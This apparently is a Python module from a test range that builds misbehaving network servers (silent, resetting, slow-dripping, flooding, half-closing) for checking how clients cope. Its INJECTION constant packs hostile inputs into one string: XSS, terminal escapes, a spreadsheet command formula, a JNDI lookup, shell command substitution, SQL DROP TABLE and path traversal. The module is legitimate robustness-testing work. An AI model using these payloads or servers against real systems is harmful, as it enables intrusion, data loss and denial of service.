"""Ways to misbehave, for any protocol: what the hostile servers are made of."""

from __future__ import annotations

import asyncio
import itertools
import socket
import struct

from posture.range.listening import Conversation, Peer

DRIP = 0.05  # seconds between two bytes

# Text for terminals, web pages, shells, logs, formats and databases to trip over.
INJECTION = (
    b"\x1b]0;owned\x07\x1b[2J\x1b[31m<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
    b"=cmd|' /C calc'!A0 %s%n {0.__class__} ${jndi:ldap://x.test/a} $(id) `id` ; DROP TABLE findings; -- "
    b"../../etc/passwd \xff\xfe\x00\xc0\xaf\xe2\x80\xae"
)


async def silent(peer: Peer) -> None:
    """Reads everything and says nothing."""
    while await peer.read(65536):
        pass


async def deaf(peer: Peer) -> None:
    """Neither reads nor speaks."""
    await asyncio.get_running_loop().create_future()


async def hang_up(peer: Peer) -> None:
    """Closes at once."""


def resets(first: bytes = b"", *, wait: bool = True) -> Conversation:
    """Says ``first`` after the client's first words (or at once), then resets the connection."""

    async def converse(peer: Peer) -> None:
        if wait:
            await peer.read(65536)
        await peer.say(first)
        connection = peer.writer.get_extra_info("socket")
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # RST instead of FIN
        peer.writer.transport.abort()

    return converse


def says(*answers: bytes, wait: bool = True) -> Conversation:
    """One answer to each thing the client says (or the first at once), then a clean end."""

    async def converse(peer: Peer) -> None:
        for number, answer in enumerate(answers):
            if (wait or number) and not await peer.read(65536):
                return
            await peer.say(answer)

    return converse


def stays(*answers: bytes, wait: bool = True) -> Conversation:
    """Like :func:`says`, but never closes."""
    return after(says(*answers, wait=wait), silent)


def drips(data: bytes, *, wait: bool = True) -> Conversation:
    """One byte at a time, slowly, again and again: every read succeeds and nothing ever ends."""

    async def converse(peer: Peer) -> None:
        if wait:
            await peer.read(65536)
        for byte in itertools.cycle(data):
            await peer.say(bytes([byte]))
            await asyncio.sleep(DRIP)

    return converse


def floods(first: bytes, again: bytes, *, wait: bool = True) -> Conversation:
    """``first``, then ``again`` for ever, as fast as the client takes it."""

    async def converse(peer: Peer) -> None:
        if wait:
            await peer.read(65536)
        await peer.say(first)
        while True:
            await peer.say(again)
            await asyncio.sleep(0)  # a fast client must not keep the loop to itself

    return converse


def after(*parts: Conversation) -> Conversation:
    """One behaviour after the other."""

    async def converse(peer: Peer) -> None:
        for part in parts:
            await part(peer)

    return converse


async def echo(peer: Peer) -> None:
    """Says whatever it hears."""
    while data := await peer.read(65536):
        await peer.say(data)


async def half_closes(peer: Peer) -> None:
    """Says at once that it will say no more, and stays."""
    peer.writer.get_extra_info("socket").shutdown(socket.SHUT_WR)
    await silent(peer)
